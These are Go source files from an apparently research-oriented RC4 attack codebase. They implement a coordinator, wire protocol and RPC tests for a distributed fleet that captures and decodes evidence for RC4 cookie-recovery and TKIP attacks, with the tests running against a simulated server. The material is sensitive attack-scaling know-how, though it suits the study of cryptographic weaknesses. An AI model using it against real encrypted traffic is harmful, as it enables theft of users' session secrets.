		cfg.Now = time.Now //rc4lint:allow timing injected-clock default; lease TTL bookkeeping only, never evidence
	}
	c := &Coordinator{
		cfg:       cfg,
		job:       cfg.Job,
		ledger:    dataset.NewLaneLedger(cfg.Job.Lanes()),
		staged:    make(map[uint64]stagedLane),
		conns:     make(map[net.Conn]struct{}),
		laneSpans: make(map[uint64]laneGrant),
	}
	c.cond = sync.NewCond(&c.mu)
	// The root span opens here, not in Run: Serve starts answering workers
	// before Run is called, and their lane spans must parent under it.
	c.runSpan = cfg.Tracer.Start(cfg.TraceParent, "fleet.run",
		obs.Str("attack", cfg.Job.Attack), obs.Str("mode", cfg.Job.Mode),
		obs.U64("budget", cfg.Job.Budget), obs.U64("lanes", cfg.Job.Lanes()))
	if obs := cfg.Pool.Observed(); obs > 0 {
		if obs > cfg.Job.Budget {
			return nil, fmt.Errorf("fleet: resumed pool holds %d observations, beyond the %d budget", obs, cfg.Job.Budget)
		}
		if obs != cfg.Job.Budget && obs%cfg.Job.LaneRecords != 0 {
			return nil, fmt.Errorf("fleet: resumed pool holds %d observations, not a multiple of the %d-record lane size", obs, cfg.Job.LaneRecords)
		}
		done := obs / cfg.Job.LaneRecords
		if obs == cfg.Job.Budget {
			done = cfg.Job.Lanes()
		}
		for lane := uint64(0); lane < done; lane++ {
			if err := c.ledger.Complete(lane); err != nil {
				return nil, err
			}
		}
		c.nextMerge = done
	}
	return c, nil
}

// Job returns the coordinator's job spec.
func (c *Coordinator) Job() JobSpec { return c.job }

// Serve starts accepting worker connections on l. It returns immediately;
// Close shuts the listener and every open connection down.
func (c *Coordinator) Serve(l net.Listener) {
	c.mu.Lock()
	c.listener = l
	c.mu.Unlock()
	c.wg.Add(1)
	go func() {
		defer c.wg.Done()
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.mu.Lock()
			c.conns[conn] = struct{}{}
			c.mu.Unlock()
			c.wg.Add(1)
			go func() {
				defer c.wg.Done()
				c.handleConn(conn)
				c.mu.Lock()
				delete(c.conns, conn)
				c.mu.Unlock()
			}()
		}
	}()
}

// Run drives the closed decode loop over the merged pool — online.Run with
// the coordinator itself as the evidence feed — and declares the run over
// when it returns, so every subsequent worker RPC is answered with Stop:
// the early-stop broadcast the moment a candidate is oracle-confirmed.
func (c *Coordinator) Run(ctx context.Context) (online.Result, error) {
	if ctx != nil {
		done := make(chan struct{})
		defer close(done)
		go func() {
			select {
			case <-ctx.Done():
				c.Shutdown("coordinator cancelled: " + ctx.Err().Error())
			case <-done:
			}
		}()
	}
	res, err := online.Run(online.Config{
		Decoder:       coordinatorPool{c},
		Oracle:        c.cfg.Oracle,
		Cadence:       c.cfg.Cadence,
		MaxCandidates: c.cfg.MaxCandidates,
		Budget:        c.job.Budget,
		Feed:          coordinatorPool{c},
		Checkpoint:    c.checkpoint,
		Logf:          c.cfg.Logf,
		Tracer:        c.cfg.Tracer,
		TraceParent:   c.runSpan.Context(),
	})
	switch {
	case err == nil:
		c.Shutdown(fmt.Sprintf("candidate confirmed at rank %d after %d observations", res.Rank, res.Observed))
	case errors.Is(err, online.ErrBudgetExhausted):
		c.Shutdown("observation budget exhausted without a confirmed candidate")
	default:
		c.Shutdown("coordinator error: " + err.Error())
	}
	return res, err
}

// Shutdown declares the run over with the given reason. Idempotent; safe
// from any goroutine.
func (c *Coordinator) Shutdown(reason string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.stopped {
		c.stopped = true
		c.stopReason = reason
	}
	c.cond.Broadcast()
}

// Close stops accepting connections and closes the open ones, then waits
// for the handlers to drain. Call after Run has returned and workers have
// had their chance to hear Stop.
func (c *Coordinator) Close() {
	c.Shutdown("coordinator closed")
	c.mu.Lock()
	for lane, g := range c.laneSpans {
		//rc4lint:allow maporder shutdown span flush; End order does not affect the journal's export sort
		g.span.SetAttrs(obs.Str("outcome", "unresolved-at-close"))
		g.span.End()
		delete(c.laneSpans, lane)
	}
	c.runSpan.End()
	l := c.listener
	conns := make([]net.Conn, 0, len(c.conns))
	for conn := range c.conns {
		//rc4lint:allow maporder shutdown close set; every conn is closed, order is irrelevant
		conns = append(conns, conn)
	}
	c.mu.Unlock()
	if l != nil {
		l.Close()
	}
	for _, conn := range conns {
		conn.Close()
	}
	c.wg.Wait()
}

// Stats reports upload counters and lane progress.
func (c *Coordinator) Stats() (uploads, rejected, lanesDone uint64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, _, done := c.ledger.Counts()
	return c.uploads, c.rejected, done
}

// coordinatorPool adapts the coordinator to the online runtime's Decoder
// and Feed contracts, serializing every pool access under the coordinator
// lock so worker merges and decode rounds never interleave.
type coordinatorPool struct{ c *Coordinator }

func (p coordinatorPool) Observed() uint64 {
	p.c.mu.Lock()
	defer p.c.mu.Unlock()
	return p.c.cfg.Pool.Observed()
}

func (p coordinatorPool) Decode(max int) (recovery.CandidateSource, error) {
	p.c.mu.Lock()
	defer p.c.mu.Unlock()
	t0 := p.c.cfg.Now()
	src, err := p.c.cfg.Pool.Decode(max)
	if p.c.cfg.ObserveDecode != nil {
		p.c.cfg.ObserveDecode(p.c.cfg.Now().Sub(t0))
	}
	return src, err
}

// AdvanceTo raises the merge limit to target, folds in any staged lanes it
// unblocks, and waits for workers to deliver the rest. The limit is what
// keeps fleet decodes deterministic: lanes that arrive early stay staged
// until a later decode round needs them, so the pool state at every decode
// is the shortest lane prefix covering the cadence point — independent of
// worker timing.
func (p coordinatorPool) AdvanceTo(target uint64) error {
	c := p.c
	c.mu.Lock()
	defer c.mu.Unlock()
	if target > c.mergeLimit {
		c.mergeLimit = target
	}
	c.mergeStagedLocked()
	for c.failure == nil && !c.stopped && c.cfg.Pool.Observed() < target {
		c.cond.Wait()
	}
	if c.failure != nil {
		return c.failure
	}
	if c.stopped {
		return &StoppedError{Reason: c.stopReason}
	}
	return nil
}

// mergeStagedLocked merges staged lanes, in lane order, while the pool is
// below the merge limit.
func (c *Coordinator) mergeStagedLocked() {
	for c.failure == nil && c.cfg.Pool.Observed() < c.mergeLimit {
		st, ok := c.staged[c.nextMerge]
		if !ok {
			return
		}
		ms := c.cfg.Tracer.Start(c.runSpan.Context(), "fleet.merge",
			obs.U64("lane", c.nextMerge), obs.U64("records", st.records))
		err := c.cfg.Pool.Merge(st.shard)
		ms.End()
		if err != nil {
			c.failure = fmt.Errorf("fleet: merging lane %d: %w", c.nextMerge, err)
			c.cond.Broadcast()
			return
		}
		delete(c.staged, c.nextMerge)
		c.nextMerge++
		c.logf("merged lane %d (pool now %d observations)", c.nextMerge-1, c.cfg.Pool.Observed())
	}
}

func (c *Coordinator) checkpoint() error {
	if c.cfg.Checkpoint == "" {
		return nil
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.cfg.Pool.WriteSnapshotFile(c.cfg.Checkpoint)
}

func (c *Coordinator) logf(format string, args ...interface{}) {
	if c.cfg.Logf != nil {
		c.cfg.Logf(format, args...)
	}
}

// handleConn answers one worker connection's RPCs until it disconnects.
func (c *Coordinator) handleConn(conn net.Conn) {
	defer conn.Close()
	for {
		kind, payload, err := readMsg(conn)
		if err != nil {
			return
		}
		var rep wireReply
		switch kind {
		case kindHello:
			var h Hello
			if err := snapshot.DecodeGob(payload, &h); err != nil {
				return
			}
			rep = c.handleHello(h)
		case kindLeaseRequest:
			var lr LeaseRequest
			if err := snapshot.DecodeGob(payload, &lr); err != nil {
				return
			}
			rep = c.handleLease(lr)
		case kindEvidence:
			var ev Evidence
			if err := snapshot.DecodeGob(payload, &ev); err != nil {
				return
			}
			rep = reply(kindAck, c.handleEvidence(ev))
		case kindRelease:
			var rl Release
			if err := snapshot.DecodeGob(payload, &rl); err != nil {
				return
			}
			rep = reply(kindAck, c.handleRelease(rl))
		default:
			rep = reply(kindStop, Stop{Reason: fmt.Sprintf("unknown message kind %q", kind)})
		}
		if err := writeReply(conn, rep); err != nil {
			return
		}
	}
}

func (c *Coordinator) handleHello(h Hello) wireReply {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.stopped {
		return reply(kindStop, Stop{Reason: c.stopReason})
	}
	if h.Fingerprint != c.job.Fingerprint {
		c.logf("worker %s turned away: attack fingerprint mismatch", h.Worker)
		return reply(kindStop, Stop{Reason: "attack configuration fingerprint does not match the job (check the worker's flags)"})
	}
	c.logf("worker %s joined", h.Worker)
	// Instantaneous marker span: worker joins (and rejoins after a
	// disconnect) show up on the coordinator timeline.
	c.cfg.Tracer.Start(c.runSpan.Context(), "fleet.join", obs.Str("worker", h.Worker)).End()
	return reply(kindWelcome, Welcome{Job: c.job})
}

func (c *Coordinator) handleLease(lr LeaseRequest) wireReply {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.stopped {
		return reply(kindStop, Stop{Reason: c.stopReason})
	}
	now := c.cfg.Now()
	for _, lane := range c.ledger.Reclaim(now) {
		c.logf("lease on lane %d expired; re-leasing", lane)
		if g, ok := c.laneSpans[lane]; ok {
			g.span.SetAttrs(obs.Str("outcome", "expired"))
			g.span.End()
			delete(c.laneSpans, lane)
		}
	}
	lane, ok := c.ledger.Lease(lr.Worker, now, c.cfg.LeaseTTL)
	if !ok {
		// Nothing leasable right now. Workers must not give up: a lease can
		// expire and put its lane back. Suggest re-asking after a fraction
		// of a TTL, capped so idle workers still hear the early-stop within
		// a second of the run finishing.
		after := c.cfg.LeaseTTL / 4
		if after > time.Second {
			after = time.Second
		}
		return reply(kindWait, Wait{After: after})
	}
	start, records := c.job.LaneExtent(lane)
	c.logf("leased lane %d (observations %d..%d) to %s", lane, start, start+records, lr.Worker)
	// The lane span covers lease grant through accepted upload (or expiry);
	// its context rides in the lease so the worker's collect span nests
	// under it across the process boundary.
	span := c.cfg.Tracer.Start(c.runSpan.Context(), "fleet.lane",
		obs.U64("lane", lane), obs.Str("worker", lr.Worker), obs.U64("records", records))
	span.SetTrack(int64(lane))
	sc := span.Context()
	// Stored even when untraced (span nil): the grant time still feeds the
	// roundtrip histogram hook.
	c.laneSpans[lane] = laneGrant{span: span, granted: now}
	return reply(kindLease, Lease{
		Lane:    lane,
		Start:   start,
		Records: records,
		Stream:  c.job.LaneStream(lane),
		TTL:     c.cfg.LeaseTTL,
		Trace:   uint64(sc.Trace),
		Span:    uint64(sc.Span),
	})
}

// handleRelease returns a failed worker's lane to the pool immediately —
// only the current owner's release counts (anyone else's lease already
// expired or was reassigned; the ledger ignores those).
func (c *Coordinator) handleRelease(rl Release) Ack {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.ledger.Release(rl.Lane, rl.Worker)
	c.logf("worker %s released lane %d", rl.Worker, rl.Lane)
	return Ack{Lane: rl.Lane, OK: true, Merged: c.cfg.Pool.Observed(), Stop: c.stopped}
}

// handleEvidence validates and stages one lane upload. Rejections mirror
// the offline -merge path: mismatched identity, wrong record count, or a
// lane whose observations are already counted (the duplicate a re-leased
// lane's original owner produces when it wakes up late) are refused and the
// worker told why; its capture work is already covered, so the refusal is
// informational, not fatal. The expensive part — decoding the snapshot —
// runs between two short locked sections so concurrent RPCs (and the
// decode loop) are never stalled behind a gob decode.
func (c *Coordinator) handleEvidence(ev Evidence) Ack {
	// Fold the worker's piggybacked spans first, acceptance aside: even a
	// rejected duplicate represents real capture work worth rendering.
	c.cfg.Tracer.Fold(ev.Spans)
	if ack, proceed := c.precheckEvidence(ev); !proceed {
		return ack
	}
	ingest := c.cfg.Tracer.Start(c.laneSpanContext(ev.Lane), "fleet.ingest",
		obs.U64("lane", ev.Lane), obs.Str("worker", ev.Worker), obs.Int("bytes", int64(len(ev.Snapshot))))
	t0 := c.cfg.Now()
	// Unlocked: Validate only reads immutable pool configuration (see the
	// Pool contract), so it can overlap other uploads, leases, and decode.
	want := c.job.LaneStream(ev.Lane)
	shard, err := c.cfg.Pool.Validate(ev.Snapshot, want, ev.Records)

	c.mu.Lock()
	defer c.mu.Unlock()
	ingest.End()
	if c.cfg.ObserveIngest != nil {
		c.cfg.ObserveIngest(c.cfg.Now().Sub(t0))
	}
	if err != nil {
		return c.rejectLocked(ev, "lane snapshot invalid: %v", err)
	}
	// Re-check for a duplicate: another worker may have staged this lane
	// while we were decoding.
	if dup := c.duplicateLocked(ev.Lane); dup {
		return c.rejectLocked(ev, "duplicate upload for stream %s/seed %d/lane %d — its observations are already counted",
			want.Mode, want.Seed, want.Lane)
	}
	c.staged[ev.Lane] = stagedLane{shard: shard, records: ev.Records}
	if err := c.ledger.Complete(ev.Lane); err != nil {
		// Unreachable given the duplicate check above, but never silent.
		c.logf("ledger complete lane %d: %v", ev.Lane, err)
	}
	c.uploads++
	if g, ok := c.laneSpans[ev.Lane]; ok {
		g.span.SetAttrs(obs.Str("outcome", "uploaded"), obs.Str("uploader", ev.Worker))
		g.span.End()
		delete(c.laneSpans, ev.Lane)
		if c.cfg.ObserveLaneRoundtrip != nil {
			c.cfg.ObserveLaneRoundtrip(c.cfg.Now().Sub(g.granted))
		}
	}
	c.mergeStagedLocked()
	c.cond.Broadcast()
	return Ack{Lane: ev.Lane, OK: true, Merged: c.cfg.Pool.Observed(), Stop: c.stopped}
}

// laneSpanContext returns the outstanding lane span's context (zero when
// untraced or the lease already resolved) for parenting ingest spans.
func (c *Coordinator) laneSpanContext(lane uint64) obs.SpanContext {
	c.mu.Lock()
	defer c.mu.Unlock()
	if g, ok := c.laneSpans[lane]; ok {
		return g.span.Context()
	}
	return c.runSpan.Context()
}

// precheckEvidence runs the cheap upload checks under the lock; proceed is
// false when the returned rejection ack is final.
func (c *Coordinator) precheckEvidence(ev Evidence) (Ack, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.stopped {
		return c.rejectLocked(ev, "run already finished: %s", c.stopReason), false
	}
	if ev.Lane >= c.job.Lanes() {
		return c.rejectLocked(ev, "lane %d outside the job's %d lanes", ev.Lane, c.job.Lanes()), false
	}
	want := c.job.LaneStream(ev.Lane)
	if ev.Stream != want {
		return c.rejectLocked(ev, "stream identity %s/seed %d/lane %d does not match the lease (%s/seed %d/lane %d)",
			ev.Stream.Mode, ev.Stream.Seed, ev.Stream.Lane, want.Mode, want.Seed, want.Lane), false
	}
	_, wantRecords := c.job.LaneExtent(ev.Lane)
	if ev.Records != wantRecords {
		return c.rejectLocked(ev, "lane carries %d observations, lease specified %d", ev.Records, wantRecords), false
	}
	if c.duplicateLocked(ev.Lane) {
		return c.rejectLocked(ev, "duplicate upload for stream %s/seed %d/lane %d — its observations are already counted",
			want.Mode, want.Seed, want.Lane), false
	}
	return Ack{}, true
}

// duplicateLocked reports whether the lane's observations are already
// staged or merged.
func (c *Coordinator) duplicateLocked(lane uint64) bool {
	if _, staged := c.staged[lane]; staged {
		return true
	}
	return lane < c.nextMerge || c.ledger.State(lane) == dataset.LaneDone
}

func (c *Coordinator) rejectLocked(ev Evidence, format string, args ...interface{}) Ack {
	c.rejected++
	msg := fmt.Sprintf(format, args...)
	c.logf("rejected lane %d upload from %s: %s", ev.Lane, ev.Worker, msg)
	return Ack{Lane: ev.Lane, Err: msg, Merged: c.cfg.Pool.Observed(), Stop: c.stopped}
}
