// Package fleet turns the single-machine attacks into a coordinated,
// fault-tolerant capture/decode fleet — the layer the paper's collection
// campaigns actually need (§3.2 ran ~80 machines; §5.4/§6.3 are multi-hour
// captures). One coordinator owns the evidence pool and the closed decode
// loop; many workers capture disjoint lanes of the observation stream and
// stream their evidence back.
//
// The design leans entirely on guarantees the lower layers already provide:
//
//   - Lanes. The observation budget is cut into fixed-size lanes
//     (dataset.LaneLedger bookkeeping, the fleet sibling of
//     dataset.Config.LaneOffset's disjoint key lanes). Each lane has one
//     stream identity (snapshot.StreamInfo with the Lane field set) and its
//     evidence is a pure function of (job, lane), so a lane can be captured
//     by any worker, at any time, any number of times — always producing
//     the same bytes.
//
//   - Leases. A worker holds a lane only until its lease TTL expires; a
//     worker that dies mid-lane simply lets the lease lapse, and the
//     coordinator re-leases the lane to the next worker that asks. A dead
//     worker that rejoins starts from its last acked state by construction:
//     acked lanes are done, everything else was never its responsibility.
//
//   - Wire format. Every message is one internal/snapshot envelope
//     (length-prefixed, kind-tagged, CRC-64-checksummed), and lane evidence
//     payloads are the attacks' own snapshot envelopes — the exact bytes a
//     -checkpoint file would hold — validated by the same fingerprint and
//     stream checks the offline -merge path applies. A duplicate lane
//     upload (a re-leased lane's original owner waking up late) is rejected
//     at the RPC layer the same way -merge rejects a duplicated shard.
//
//   - Ordering. Evidence merges are float-accumulating, so the coordinator
//     merges lanes strictly in lane order (uploads arriving early stage in
//     memory until their predecessors land) and only up to the current
//     decode target. Between decode rounds the pool is frozen. Together
//     these make a fleet run bitwise-identical to a single process
//     capturing the same lanes — the property TestFleetMatchesSingleProcess
//     pins.
//
// The coordinator drives online.Run over the merged pool through the
// runtime's pluggable Feed, so decode cadence, the reject cache,
// checkpointing, and early stop all behave exactly as in a single-process
// online run; the moment a candidate is oracle-confirmed, every subsequent
// worker RPC answers "stop".
package fleet

import (
	"fmt"
	"io"
	"time"

	"rc4break/internal/obs"
	"rc4break/internal/snapshot"
)

// Message kinds — the envelope kind strings of the coordinator/worker RPC.
// Each request expects exactly one reply; Stop is a valid reply to any
// request once the run has finished.
const (
	kindHello        = "rc4break.fleet.hello.v1"
	kindWelcome      = "rc4break.fleet.welcome.v1"
	kindLeaseRequest = "rc4break.fleet.lease-request.v1"
	kindLease        = "rc4break.fleet.lease.v1"
	kindWait         = "rc4break.fleet.wait.v1"
	kindStop         = "rc4break.fleet.stop.v1"
	kindEvidence     = "rc4break.fleet.evidence.v1"
	kindAck          = "rc4break.fleet.ack.v1"
	kindRelease      = "rc4break.fleet.release.v1"
)

// JobSpec describes the capture job a coordinator is running; it is sent to
// every worker in the Welcome reply so workers reconstruct the exact same
// collection locally from their own flags plus the job parameters.
type JobSpec struct {
	// Attack is "cookie" or "tkip".
	Attack string
	// Mode is the collection mode workers must run ("model" or "exact").
	Mode string
	// Seed is the job's base seed; lane streams derive from it
	// (cliutil.LaneSeed for model mode, absolute stream offsets for exact
	// mode).
	Seed int64
	// Budget is the total observation budget across all lanes.
	Budget uint64
	// LaneRecords is the observation count of each lane (the final lane is
	// clamped to the budget).
	LaneRecords uint64
	// Fingerprint identifies the attack configuration (cookie request
	// layout / TKIP model) every worker must share; a worker whose local
	// fingerprint differs is turned away at Hello.
	Fingerprint [16]byte
}

// Lanes returns the job's lane count: Budget/LaneRecords rounded up.
func (j JobSpec) Lanes() uint64 {
	return (j.Budget + j.LaneRecords - 1) / j.LaneRecords
}

// LaneExtent returns the absolute observation offset and length of a lane.
func (j JobSpec) LaneExtent(lane uint64) (start, records uint64) {
	start = lane * j.LaneRecords
	records = j.LaneRecords
	if start+records > j.Budget {
		records = j.Budget - start
	}
	return start, records
}

// LaneStream is the canonical stream identity of one lane: the job's mode
// and base seed plus the lane index. Workers stamp lane snapshots with it
// and the coordinator rejects any upload whose identity differs from the
// lane's — or repeats one already merged.
func (j JobSpec) LaneStream(lane uint64) snapshot.StreamInfo {
	return snapshot.StreamInfo{Mode: j.Mode, Seed: j.Seed, Lane: lane}
}

// Hello opens a worker session.
type Hello struct {
	Worker string
	// Fingerprint is the worker's locally constructed attack fingerprint;
	// it must match the job's.
	Fingerprint [16]byte
}

// Welcome accepts a worker and hands it the job parameters.
type Welcome struct {
	Job JobSpec
}

// LeaseRequest asks for the next capture lane.
type LeaseRequest struct {
	Worker string
}

// Lease grants one lane until TTL elapses. Start/Records are the lane's
// absolute extent; Stream is the identity the lane snapshot must carry.
type Lease struct {
	Lane    uint64
	Start   uint64
	Records uint64
	Stream  snapshot.StreamInfo
	TTL     time.Duration
	// Trace/Span carry the coordinator's lane-span context so the worker's
	// collect spans parent under it and the whole fleet renders as one
	// flame graph. Zero when the coordinator runs untraced; tracing fields
	// never influence capture or evidence.
	Trace uint64
	Span  uint64
}

// Wait tells a worker no lane is currently available (all leased or done,
// but the run is not finished — an expired lease may still come back); ask
// again after After.
type Wait struct {
	After time.Duration
}

// Stop tells a worker the run is over.
type Stop struct {
	Reason string
}

// Release gives a leased lane back early: a worker whose collect loop
// failed says so instead of silently holding the lane until the TTL
// expires. Best-effort — a worker that dies outright never sends it, and
// the TTL remains the backstop.
type Release struct {
	Worker string
	Lane   uint64
}

// Evidence uploads one captured lane: the attack's own snapshot envelope
// bytes, exactly as WriteSnapshot produces them, plus the lane identity the
// coordinator validates against the lease it issued. Spans piggybacks the
// worker's drained trace journal on the upload it already makes — the
// coordinator folds them into its own journal, so one /debug/trace scrape
// on the coordinator shows the whole fleet. Spans never feed validation or
// the evidence pool.
type Evidence struct {
	Worker   string
	Lane     uint64
	Stream   snapshot.StreamInfo
	Records  uint64
	Snapshot []byte
	Spans    []obs.Record
}

// Ack is the coordinator's receipt for an Evidence upload — the worker's
// durable checkpoint: once a lane is acked the worker never has to think
// about it again.
type Ack struct {
	Lane uint64
	// OK is false when the upload was rejected (duplicate lane, stream
	// mismatch, malformed snapshot); Err carries the reason. A rejected
	// duplicate is not fatal to the worker — the lane is already covered.
	OK  bool
	Err string
	// Merged is the contiguous observation count merged into the pool so
	// far (the coordinator's progress counter).
	Merged uint64
	// Stop tells the worker the run has finished.
	Stop bool
}

// writeMsg sends one protocol message as a snapshot envelope.
func writeMsg(w io.Writer, kind string, v any) error {
	return snapshot.WriteGob(w, kind, v)
}

// wireReply is one pre-encoded reply envelope: the payload was gob-encoded
// at a statically typed call site (see reply), so by the time a handler
// returns, the message type is already pinned and checked.
type wireReply struct {
	kind    string
	payload []byte
	err     error // encoding failure, surfaced at the write site
}

// reply encodes a typed protocol message into a wireReply. The type
// parameter keeps the payload's concrete type visible at every call site —
// the hook the rc4gob pass uses to verify each reply message against the
// schema manifest instead of losing it behind an `any` dispatch.
func reply[M any](kind string, v M) wireReply {
	payload, err := snapshot.EncodeGob(v)
	return wireReply{kind: kind, payload: payload, err: err}
}

// writeReply sends one pre-encoded reply envelope.
func writeReply(w io.Writer, r wireReply) error {
	if r.err != nil {
		return r.err
	}
	return snapshot.Write(w, r.kind, r.payload)
}

// readMsg reads one envelope and returns its kind and raw payload; the
// caller dispatches on kind and decodes with snapshot.DecodeGob.
func readMsg(r io.Reader) (string, []byte, error) {
	return snapshot.Read(r)
}

// readExpect reads one message that must be of the given kind, decoding it
// into v. A Stop reply is surfaced as ErrStopped so callers can shut down
// cleanly from any state.
func readExpect(r io.Reader, kind string, v any) error {
	got, payload, err := readMsg(r)
	if err != nil {
		return err
	}
	if got == kindStop {
		var st Stop
		if err := snapshot.DecodeGob(payload, &st); err != nil {
			return err
		}
		return &StoppedError{Reason: st.Reason}
	}
	if got != kind {
		return fmt.Errorf("fleet: protocol error: got %q, want %q", got, kind)
	}
	return snapshot.DecodeGob(payload, v)
}

// StoppedError reports that the coordinator declared the run over.
type StoppedError struct {
	Reason string
}

func (e *StoppedError) Error() string { return "fleet: run stopped: " + e.Reason }
