package fleet

import (
	"bytes"
	"net"
	"strings"
	"testing"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/snapshot"
)

// rpcConn drives the wire protocol by hand — the tests that pin what the
// coordinator accepts and rejects at the RPC layer, independent of the
// Worker loop's behavior.
type rpcConn struct {
	t    *testing.T
	conn net.Conn
}

func (r *rpcConn) send(kind string, v any) {
	r.t.Helper()
	if err := writeMsg(r.conn, kind, v); err != nil {
		r.t.Fatal(err)
	}
}

func (r *rpcConn) recv() (string, []byte) {
	r.t.Helper()
	kind, payload, err := readMsg(r.conn)
	if err != nil {
		r.t.Fatal(err)
	}
	return kind, payload
}

func decode[T any](t *testing.T, payload []byte) T {
	t.Helper()
	var v T
	if err := snapshot.DecodeGob(payload, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// TestEvidenceRPCRejections pins the upload validation: duplicate lane
// uploads, stream identity mismatches, wrong record counts, and foreign
// fingerprints are all refused at the RPC layer — the networked equivalents
// of the checks the offline -merge path applies.
func TestEvidenceRPCRejections(t *testing.T) {
	const secret = "C00kie8+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	cfg := cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	pool, err := cookieattack.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	job := JobSpec{
		Attack:      "cookie",
		Mode:        "model",
		Seed:        3,
		Budget:      4 << 10,
		LaneRecords: 1 << 10,
		Fingerprint: pool.Fingerprint(),
	}
	coord, err := NewCoordinator(Config{
		Job:      job,
		Pool:     &CookiePool{Attack: pool},
		Oracle:   &netsim.CookieServer{Secret: []byte(secret)},
		LeaseTTL: time.Minute,
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	coord.Serve(l)
	defer coord.Close()

	// A worker with a foreign attack fingerprint is turned away at Hello.
	badConn, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	bad := &rpcConn{t: t, conn: badConn}
	bad.send(kindHello, Hello{Worker: "imposter", Fingerprint: [16]byte{0xbd}})
	if kind, payload := bad.recv(); kind != kindStop {
		t.Fatalf("foreign fingerprint got %q, want stop", kind)
	} else if st := decode[Stop](t, payload); !strings.Contains(st.Reason, "fingerprint") {
		t.Fatalf("stop reason %q does not name the fingerprint", st.Reason)
	}
	badConn.Close()

	conn, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	rpc := &rpcConn{t: t, conn: conn}

	rpc.send(kindHello, Hello{Worker: "w", Fingerprint: job.Fingerprint})
	if kind, _ := rpc.recv(); kind != kindWelcome {
		t.Fatalf("hello got %q", kind)
	}

	lease := func() Lease {
		rpc.send(kindLeaseRequest, LeaseRequest{Worker: "w"})
		kind, payload := rpc.recv()
		if kind != kindLease {
			t.Fatalf("lease request got %q", kind)
		}
		return decode[Lease](t, payload)
	}
	collect := func(ls Lease) []byte {
		a, err := cookieattack.CollectLane(cfg, []byte(secret), ls.Stream,
			cliutil.LaneSeed(job.Seed, ls.Lane), ls.Records, 0)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	upload := func(ev Evidence) Ack {
		rpc.send(kindEvidence, ev)
		kind, payload := rpc.recv()
		if kind != kindAck {
			t.Fatalf("evidence got %q", kind)
		}
		return decode[Ack](t, payload)
	}

	// A clean lane upload is acked.
	ls0 := lease()
	if ls0.Lane != 0 || ls0.Records != 1<<10 {
		t.Fatalf("first lease = %+v", ls0)
	}
	ev0 := Evidence{Worker: "w", Lane: ls0.Lane, Stream: ls0.Stream, Records: ls0.Records, Snapshot: collect(ls0)}
	if ack := upload(ev0); !ack.OK {
		t.Fatalf("clean upload rejected: %s", ack.Err)
	}

	// The same lane again — the late twin of a re-leased lane — is a
	// duplicate, rejected like the -merge path rejects a same-stream shard.
	if ack := upload(ev0); ack.OK || !strings.Contains(ack.Err, "duplicate") {
		t.Fatalf("duplicate upload: ok=%v err=%q", ack.OK, ack.Err)
	}

	// An upload whose declared stream is another lane's does not match its
	// lease and is refused before any decoding happens.
	ls1 := lease()
	ev := Evidence{Worker: "w", Lane: ls1.Lane, Stream: ls0.Stream, Records: ls1.Records, Snapshot: collect(ls1)}
	if ack := upload(ev); ack.OK || !strings.Contains(ack.Err, "does not match the lease") {
		t.Fatalf("mismatched stream: ok=%v err=%q", ack.OK, ack.Err)
	}

	// A record count differing from the lease is refused.
	ev = Evidence{Worker: "w", Lane: ls1.Lane, Stream: ls1.Stream, Records: ls1.Records - 1, Snapshot: collect(ls1)}
	if ack := upload(ev); ack.OK || !strings.Contains(ack.Err, "lease specified") {
		t.Fatalf("short count: ok=%v err=%q", ack.OK, ack.Err)
	}

	// A snapshot whose own stream stamp disagrees with the envelope header
	// fails pool validation.
	wrong := Lease{Lane: ls1.Lane, Records: ls1.Records, Stream: job.LaneStream(3)}
	ev = Evidence{Worker: "w", Lane: ls1.Lane, Stream: ls1.Stream, Records: ls1.Records, Snapshot: collect(wrong)}
	if ack := upload(ev); ack.OK || !strings.Contains(ack.Err, "snapshot invalid") {
		t.Fatalf("stamp mismatch: ok=%v err=%q", ack.OK, ack.Err)
	}

	// The honest retry of lane 1 still lands.
	ev = Evidence{Worker: "w", Lane: ls1.Lane, Stream: ls1.Stream, Records: ls1.Records, Snapshot: collect(ls1)}
	if ack := upload(ev); !ack.OK {
		t.Fatalf("honest retry rejected: %s", ack.Err)
	}

	// A released lane comes back immediately: the next lease re-grants it
	// without waiting out the TTL.
	ls2 := lease()
	rpc.send(kindRelease, Release{Worker: "w", Lane: ls2.Lane})
	if kind, payload := rpc.recv(); kind != kindAck {
		t.Fatalf("release got %q", kind)
	} else if ack := decode[Ack](t, payload); !ack.OK {
		t.Fatalf("release rejected: %s", ack.Err)
	}
	if again := lease(); again.Lane != ls2.Lane {
		t.Fatalf("re-lease after release got lane %d, want %d", again.Lane, ls2.Lane)
	}

	if uploads, rejected, done := coord.Stats(); uploads != 2 || rejected != 4 || done != 2 {
		t.Fatalf("stats = %d uploads, %d rejected, %d lanes done; want 2/4/2", uploads, rejected, done)
	}
}

// TestJobSpecLanes pins the lane geometry: rounding up, final-lane clamping.
func TestJobSpecLanes(t *testing.T) {
	j := JobSpec{Budget: 2500, LaneRecords: 1000}
	if j.Lanes() != 3 {
		t.Fatalf("lanes = %d", j.Lanes())
	}
